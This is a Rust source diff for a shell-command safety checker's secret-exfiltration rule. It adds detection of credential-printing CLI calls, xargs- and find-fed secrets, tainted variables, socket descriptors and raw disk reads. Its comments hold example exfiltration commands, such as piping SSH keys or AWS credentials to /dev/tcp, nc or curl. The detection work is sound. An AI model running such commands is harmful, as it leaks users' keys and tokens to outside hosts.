@@ -1,10 +1,14 @@
 //! `secret-exfiltration`: private keys, credentials and environment dumps sent over the network.
 
 use super::common::{
-    ask, deny, is_secret, is_sender, may_be_secret, pipelines_of, prog, text, units_within,
+    ask, deny, fed_words, is_raw_device, is_secret, is_sender, may_be_secret, pipelines_of, prog,
+    text, units_within,
 };
+use super::secret_glob::{glob_may_be_secret, name_may_be_secret};
 use super::{Check, CheckCtx, Finding, declare_check};
-use crate::analyze::Unit;
+use std::cell::LazyCell;
+
+use crate::analyze::{Analysis, Arg, Context, Unit};
 use crate::policy::Risk;
 
 declare_check! {
@@ -134,6 +138,70 @@ fn prints_secret(u: &Unit) -> Option<String> {
         {
             Some("AWS credentials".to_owned())
         }
+        "aws"
+            if words.iter().any(|w| {
+                matches!(
+                    *w,
+                    "get-login-password"
+                        | "get-authorization-token"
+                        | "get-session-token"
+                        | "get-secret-value"
+                        | "export-credentials"
+                )
+            }) || words.contains(&"--with-decryption") =>
+        {
+            Some("AWS credentials".to_owned())
+        }
+        "gcloud"
+            if words
+                .iter()
+                .any(|w| matches!(*w, "print-access-token" | "print-identity-token"))
+                || words.starts_with(&["secrets", "versions", "access"]) =>
+        {
+            Some("a Google Cloud token".to_owned())
+        }
+        "az" if words.contains(&"get-access-token")
+            || words.starts_with(&["keyvault", "secret", "show"]) =>
+        {
+            Some("an Azure token".to_owned())
+        }
+        "kubectl" | "oc" if words.starts_with(&["create", "token"]) => {
+            Some("a cluster token".to_owned())
+        }
+        "vault" | "bao"
+            if words
+                .first()
+                .is_some_and(|w| matches!(*w, "read" | "login" | "print" | "unwrap"))
+                || words.starts_with(&["token", "lookup"])
+                || words.starts_with(&["token", "create"])
+                || words.starts_with(&["kv", "get"]) =>
+        {
+            Some("a Vault secret".to_owned())
+        }
+        "op" if words
+            .first()
+            .is_some_and(|w| matches!(*w, "read" | "inject"))
+            || words.starts_with(&["item", "get"]) =>
+        {
+            Some("a 1Password secret".to_owned())
+        }
+        "bw" | "lpass" | "pass" | "gopass"
+            if words.first().is_some_and(|w| matches!(*w, "get" | "show")) =>
+        {
+            Some("a password manager entry".to_owned())
+        }
+        "security"
+            if words
+                .iter()
+                .any(|w| w.starts_with("find-") && w.ends_with("password"))
+                && words.contains(&"-w") =>
+        {
+            Some("a keychain password".to_owned())
+        }
+        "secret-tool" if words.first() == Some(&"lookup") => Some("a keyring secret".to_owned()),
+        "git" if words.starts_with(&["credential", "fill"]) => {
+            Some("git's stored credentials".to_owned())
+        }
         "npm" | "pnpm" | "yarn"
             if words.first() == Some(&"config")
                 && words.iter().any(|w| {
@@ -154,47 +222,124 @@ impl Check for SecretRead {
                 out.push(ask(Some(i), u.span, Risk::High, format!("prints {s}")));
                 continue;
             }
-            // Listing, testing and changing metadata do not read contents.
-            if prog(u).is_some_and(|p| {
-                matches!(
-                    p,
-                    "env"
-                        | "printenv"
-                        | "set"
-                        | "export"
-                        | "declare"
-                        | "ls"
-                        | "stat"
-                        | "du"
-                        | "file"
-                        | "test"
-                        | "["
-                        | "[["
-                        | "chmod"
-                        | "chown"
-                        | "mkdir"
-                        | "touch"
-                        | "find"
-                        | "fd"
-                        | "tree"
-                        | "realpath"
-                        | "basename"
-                        | "dirname"
-                        | "echo"
-                )
-            }) {
-                continue;
-            }
-            if let Some(s) = reads_secret(u) {
+            // `xargs -a ~/.ssh/id_rsa echo`: the wrapper reads the file into the command line.
+            if let Some(s) = wrapper_read_secret(u) {
                 out.push(ask(
                     Some(i),
                     u.span,
                     Risk::High,
-                    format!("reads the secret `{s}`"),
+                    format!("reads {} into the command's arguments", describe(&s)),
+                ));
+                continue;
+            }
+            // Listing, testing and changing metadata do not read contents.
+            if prog(u).is_some_and(names_only) {
+                continue;
+            }
+            if let Some(s) = reads_secret(u).or_else(|| fed_secret(cx.analysis, u)) {
+                out.push(ask(
+                    Some(i),
+                    u.span,
+                    Risk::High,
+                    format!("reads {}", describe(&s)),
                 ));
             }
         }
     }
+}
+
+/// Programs that list, test or change the metadata of the paths they are given, or print the
+/// words themselves: a secret's path among their operands is not a read of it.
+fn names_only(p: &str) -> bool {
+    matches!(
+        p,
+        "env"
+            | "printenv"
+            | "set"
+            | "export"
+            | "declare"
+            | "ls"
+            | "stat"
+            | "du"
+            | "file"
+            | "test"
+            | "["
+            | "[["
+            | "chmod"
+            | "chown"
+            | "mkdir"
+            | "touch"
+            | "find"
+            | "fd"
+            | "tree"
+            | "realpath"
+            | "basename"
+            | "dirname"
+            | "echo"
+    )
+}
+
+/// A secret file a wrapper reads into the command's arguments (`xargs -a ~/.ssh/id_rsa echo`).
+fn wrapper_read_secret(u: &Unit) -> Option<String> {
+    u.wrapper_reads
+        .iter()
+        .find(|a| is_secret_word(a))
+        .map(|a| text(a).to_owned())
+}
+
+/// A secret path `xargs` hands to a reading command (`echo ~/.ssh/id_rsa | xargs cat`,
+/// `xargs -I{} cat {} <<< .env`).
+fn fed_secret(a: &Analysis, u: &Unit) -> Option<String> {
+    if prog(u).is_none_or(names_only) {
+        return None;
+    }
+    if u.in_context(Context::FindExec) && u.args().any(|x| text(x).contains("{}")) {
+        return found_secret(a, u);
+    }
+    if !u.appended_args {
+        return None;
+    }
+    fed_words(a, u).into_iter().find(|w| is_secret(w))
+}
+
+/// The `find` that runs `u` with `-exec … {}` looks for secrets: it starts in a secret directory
+/// (`find ~/.ssh -type f`) or its `-name`/`-path` pattern may match one (`-name 'id_*'`,
+/// `-name '*.pem'`, `-path '*/.aws/*'`).
+fn found_secret(a: &Analysis, u: &Unit) -> Option<String> {
+    let f = a.units.iter().find(|f| {
+        prog(f) == Some("find") && f.span.start <= u.span.start && u.span.end <= f.span.end
+    })?;
+    let words: Vec<&str> = f.args().map(text).collect();
+    let starts = words
+        .iter()
+        .take_while(|w| !w.starts_with('-') && !matches!(**w, "(" | "!"));
+    if let Some(d) = starts.into_iter().find(|d| is_secret(d)) {
+        return Some((*d).to_owned());
+    }
+    words.windows(2).find_map(|w| {
+        let by_name =
+            matches!(w[0], "-name" | "-iname") && (is_secret(w[1]) || name_may_be_secret(w[1]));
+        let by_path = matches!(w[0], "-path" | "-ipath" | "-wholename")
+            && glob_may_be_secret(&format!("/home/user/{}", w[1].trim_start_matches("*/")));
+        (by_name || by_path).then(|| format!("the files named `{}`", w[1]))
+    })
+}
+
+/// A secret for [`is_secret`], or an unquoted glob that may expand to one.
+fn is_secret_word(a: &Arg) -> bool {
+    if a.glob {
+        glob_may_be_secret(text(a))
+    } else {
+        is_secret(text(a))
+    }
+}
+
+/// A secret read by the unit, with what the analysis knows around it: files its wrappers read
+/// (`xargs -a`) and the paths `xargs` is fed.
+fn reads_secret_in(a: &Analysis, u: &Unit) -> Option<String> {
+    wrapper_read_secret(u)
+        .or_else(|| reads_secret(u))
+        .or_else(|| fed_secret(a, u))
 }
 
 /// Options whose value is a key or certificate the tool uses, not data it sends.
@@ -225,7 +370,8 @@ fn secret_args(u: &Unit) -> Option<String> {
         IDENTITY_OPTS
     };
     let mut skip = false;
-    for t in u.args().map(text) {
+    for a in u.args() {
+        let t = text(a);
         if skip {
             skip = false;
             continue;
@@ -241,6 +387,13 @@ fn secret_args(u: &Unit) -> Option<String> {
             }) {
                 continue;
             }
+        }
+        // An unquoted glob: bash expands it to whatever files match (`cat /e??/sh?d?w`).
+        if a.glob {
+            if glob_may_be_secret(t) {
+                return Some(t.to_owned());
+            }
+            continue;
         }
         if !may_be_secret(t) || t.bytes().any(|b| b == b'*' || b == b'?') {
             continue;
@@ -276,8 +429,19 @@ fn reads_secret(u: &Unit) -> Option<String> {
         return Some(t.to_owned());
     }
     let p = prog(u)?;
-    if matches!(p, "env" | "printenv" | "set" | "export" | "declare") && u.args().next().is_none() {
+    // `env`, `declare -p`, `export -p`, `typeset -x`: every variable, tokens included (`set`
+    // only bare: `set -e` prints nothing).
+    if matches!(
+        p,
+        "env" | "printenv" | "set" | "export" | "declare" | "typeset"
+    ) && (u.args().next().is_none()
+        || p != "set" && u.args().map(text).all(|t| t.starts_with('-') && t != "-f"))
+    {
         return Some("the environment".to_owned());
+    }
+    // `tar czf - ~`: the whole home directory, keys and tokens included.
+    if let Some(h) = home_archive(u, p) {
+        return Some(format!("the home directory `{h}` (keys, tokens, history)"));
     }
     if let Some(s) = prints_secret(u) {
         return Some(s);
@@ -296,22 +460,87 @@ fn reads_secret(u: &Unit) -> Option<String> {
     if matches!(p, "gpg" | "gpg2") && u.args().map(text).any(|t| t.starts_with("--export-secret")) {
         return Some("the GPG secret keys".to_owned());
     }
+    if let Some(d) = raw_device_read(u, p) {
+        return Some(format!("the raw contents of `{d}`"));
+    }
     secret_args(u)
+}
+
+/// The home directory given whole to an archiver or a recursive reader (`tar czf - ~`,
+/// `zip -r x.zip $HOME`, `grep -r token ~`); a directory option's value (`tar -C ~`) is not.
+fn home_archive(u: &Unit, p: &str) -> Option<String> {
+    let words: Vec<&str> = u.args().map(text).collect();
+    let recursive_grep = matches!(p, "grep" | "egrep" | "fgrep")
+        && words.iter().any(|w| super::common::is_recursive_flag(w));
+    if !recursive_grep
+        && !matches!(
+            p,
+            "tar" | "zip" | "7z" | "7za" | "cpio" | "rsync" | "rclone" | "restic" | "borg"
+        )
+    {
+        return None;
+    }
+    let mut prev = "";
+    for w in words {
+        let dir_opt = matches!(prev, "-C" | "--directory" | "-g" | "--exclude" | "-X");
+        prev = w;
+        if !dir_opt && crate::policy::pattern::is_home(w) {
+            return Some(w.to_owned());
+        }
+    }
+    None
+}
+
+/// Programs that dump the contents of the files they are given.
+const CONTENT_READERS: &[&str] = &[
+    "cat", "tac", "head", "tail", "less", "more", "strings", "xxd", "od", "hexdump", "hd", "grep",
+    "egrep", "fgrep", "rg", "base64", "base32", "basenc", "pv", "gzip", "bzip2", "xz", "zstd",
+    "lz4", "cp", "tar", "dd", "nl", "sed", "awk", "gawk", "bat", "batcat",
+];
+
+/// A whole disk or the machine's memory read by a program that dumps it (`cat /dev/sda`,
+/// `strings /dev/mem`, `dd if=/dev/nvme0n1`): every file, key and password on it. Naming a
+/// device (`fdisk -l /dev/sda`, `smartctl -a /dev/sda`) is not a read.
+fn raw_device_read(u: &Unit, p: &str) -> Option<String> {
+    let redirected = u
+        .redirects
+        .iter()
+        .filter(|r| r.op == "<")
+        .filter_map(|r| r.target.as_deref())
+        .find(|t| is_raw_device(t));
+    if let Some(d) = redirected {
+        return Some(d.to_owned());
+    }
+    if !CONTENT_READERS.contains(&p) {
+        return None;
+    }
+    u.args()
+        .map(text)
+        .map(|t| {
+            if p == "dd" {
+                t.strip_prefix("if=").unwrap_or("")
+            } else {
+                t
+            }
+        })
+        .find(|t| is_raw_device(t))
+        .map(str::to_owned)
 }
 
 impl Check for SecretExfiltration {
     fn run(&self, cx: &CheckCtx, out: &mut Vec<Finding>) {
         let a = cx.analysis;
+        let sockets = socket_fds(a);
+        let tainted = LazyCell::new(|| tainted_vars(a));
         for (i, u) in a.units.iter().enumerate() {
-            // `cat ~/.ssh/id_rsa > /dev/tcp/host/port`: bash opens the connection itself.
+            // `cat ~/.ssh/id_rsa > /dev/tcp/host/port`: bash opens the connection itself;
+            // `exec 5<>/dev/udp/host/53; cat .env >&5`: through a descriptor opened earlier.
             let to_socket = u.redirects.iter().any(|r| {
-                r.target
-                    .as_deref()
-                    .unwrap_or(&r.template)
-                    .starts_with("/dev/tcp/")
-                    || r.template.starts_with("/dev/udp/")
+                is_socket_path(r.target.as_deref().unwrap_or(&r.template))
+                    || is_socket_path(&r.template)
+                    || r.op == ">&" && sockets.iter().any(|fd| *fd == r.template)
             });
-            if to_socket && let Some(s) = reads_secret(u) {
+            if to_socket && let Some(s) = reads_secret_in(a, u) {
                 out.push(deny(
                     Some(i),
                     u.span,
@@ -322,6 +551,41 @@ impl Check for SecretExfiltration {
             let Some(p) = prog(u).filter(|p| is_sender(p)) else {
                 continue;
             };
+            // `xargs -a ~/.aws/credentials curl -d @- …`: the secret is on the sender's command line.
+            if let Some(s) = wrapper_read_secret(u) {
+                out.push(deny(
+                    Some(i),
+                    u.span,
+                    format!("sends the secret `{s}` over the network with `{p}`"),
+                ));
+                continue;
+            }
+            // `find ~ -name 'id_*' -exec curl -T {} …`: the files found are secrets.
+            if let Some(s) = fed_secret(a, u) {
+                out.push(deny(
+                    Some(i),
+                    u.span,
+                    format!("sends {} over the network with `{p}`", describe(&s)),
+                ));
+                continue;
+            }
+            // `T=$(gh auth token); curl -H "Authorization: $T" …`, `for f in ~/.ssh/*; do curl
+            // -T "$f" …`: a variable that holds a secret (or its path) on the command line.
+            if u.args().any(|x| x.template.contains('$'))
+                && let Some((name, s)) = tainted
+                    .iter()
+                    .find(|(name, _)| u.args().any(|x| references(&x.template, name)))
+            {
+                out.push(deny(
+                    Some(i),
+                    u.span,
+                    format!(
+                        "sends {} (in `${name}`) over the network with `{p}`",
+                        describe(s)
+                    ),
+                ));
+                continue;
+            }
             // The sender is given the secret itself (scp needs a remote side to be a send).
             if let Some(s) = secret_args(u) {
                 let remote = !matches!(p, "scp" | "rsync" | "sftp")
@@ -358,15 +622,27 @@ impl Check for SecretExfiltration {
                 ));
                 continue;
             }
-            // A secret read in the same pipeline, or inside the sender's arguments.
+            // A secret read in the same pipeline, or inside the sender's arguments; or by the
+            // command whose output the sender reads through `>(…)`
+            // (`cat ~/.ssh/id_rsa > >(nc host 9)`), and that command's pipeline.
             let mut spans = pipelines_of(a, u);
             spans.push(u.span);
+            if u.in_context(Context::ProcessSubstitution) {
+                for r in a.units.iter().filter(|r| writes_into(r, u)) {
+                    spans.push(r.span);
+                    spans.extend(pipelines_of(a, r));
+                }
+            }
             'outer: for span in spans {
                 for (j, r) in units_within(a, span) {
                     if j == i {
                         continue;
                     }
-                    if let Some(s) = reads_secret(r) {
+                    // `gh auth token | gh secret set X`: the CLI's own token back to its service.
+                    if prog(r) == Some(p) && prints_secret(r).is_some() {
+                        continue;
+                    }
+                    if let Some(s) = reads_secret_in(a, r) {
                         out.push(deny(
                             Some(i),
                             span,
@@ -384,8 +660,96 @@ impl Check for SecretExfiltration {
     }
 }
 
+/// `/dev/tcp/host/port`, `/dev/udp/host/port`: bash opens a connection.
+fn is_socket_path(t: &str) -> bool {
+    t.starts_with("/dev/tcp/") || t.starts_with("/dev/udp/")
+}
+
+/// The descriptors opened on a socket (`exec 5>/dev/tcp/h/p`, `exec 5<>/dev/udp/h/p`). The parser
+/// splits `N<>PATH` into a redirect with an empty target followed by a unit named `PATH`.
+fn socket_fds(a: &Analysis) -> Vec<&str> {
+    let mut fds = Vec::new();
+    for (k, u) in a.units.iter().enumerate() {
+        let next_is_socket = a
+            .units
+            .get(k + 1)
+            .and_then(|n| n.program.as_deref())
+            .is_some_and(is_socket_path);
+        for r in &u.redirects {
+            if let Some(fd) = r.fd.as_deref()
+                && (is_socket_path(&r.template) || next_is_socket && r.template.is_empty())
+            {
+                fds.push(fd);
+            }
+        }
+    }
+    fds
+}
+
+/// `r` writes into the process substitution that runs `u` (`cmd > >(u)`, `tee >(u)`).
+fn writes_into(r: &Unit, u: &Unit) -> bool {
+    let inside = |s: crate::ast::Span| s.start <= u.span.start && u.span.end <= s.end;
+    !std::ptr::eq(r, u)
+        && (r
+            .redirects
+            .iter()
+            .any(|x| x.template.starts_with(">(") && inside(x.span))
+            || r.args()
+                .any(|x| x.template.starts_with(">(") && inside(x.span)))
+}
+
+/// Variables that hold a secret: assigned from a command that reads or prints one
+/// (`T=$(gh auth token)`, `K=$(cat ~/.ssh/id_rsa)`), or a loop variable over secret paths
+/// (`for f in ~/.ssh/*`). With what the secret is.
+fn tainted_vars(a: &Analysis) -> Vec<(String, String)> {
+    let mut out = Vec::new();
+    let all = a
+        .assignments
+        .iter()
+        .chain(a.units.iter().flat_map(|u| u.assignments.iter()));
+    for asg in all {
+        if out.iter().any(|(n, _): &(String, String)| *n == asg.name) {
+            continue;
+        }
+        let t = &asg.template;
+        let found = if t.contains("$(") || t.contains('`') {
+            units_within(a, asg.span)
+                .filter(|(_, r)| r.in_context(Context::Substitution))
+                .find_map(|(_, r)| reads_secret_in(a, r))
+        } else {
+            t.split_whitespace()
+                .find(|w| {
+                    is_secret(w)
+                        || w.bytes().any(|b| matches!(b, b'*' | b'?' | b'['))
+                            && glob_may_be_secret(w)
+                })
+                .map(str::to_owned)
+        };
+        if let Some(s) = found {
+            out.push((asg.name.clone(), s));
+        }
+    }
+    out
+}
+
+/// `t` expands the variable `name` (`$name`, `${name}`, `${name:-x}`).
+fn references(t: &str, name: &str) -> bool {
+    let mut rest = t;
+    while let Some(at) = rest.find('$') {
+        rest = &rest[at + 1..];
+        let r = rest.strip_prefix('{').unwrap_or(rest);
+        if let Some(after) = r.strip_prefix(name)
+            && !after.starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
+        {
+            return true;
+        }
+    }
+    false
+}
+
 fn describe(s: &str) -> String {
-    if s.starts_with("the ") {
+    // A description (`the environment`, `AWS credentials`), not a path.
+    if s.starts_with("the ") || s.contains(' ') && !s.contains('/') {
         s.to_owned()
     } else {
         format!("the secret `{s}`")
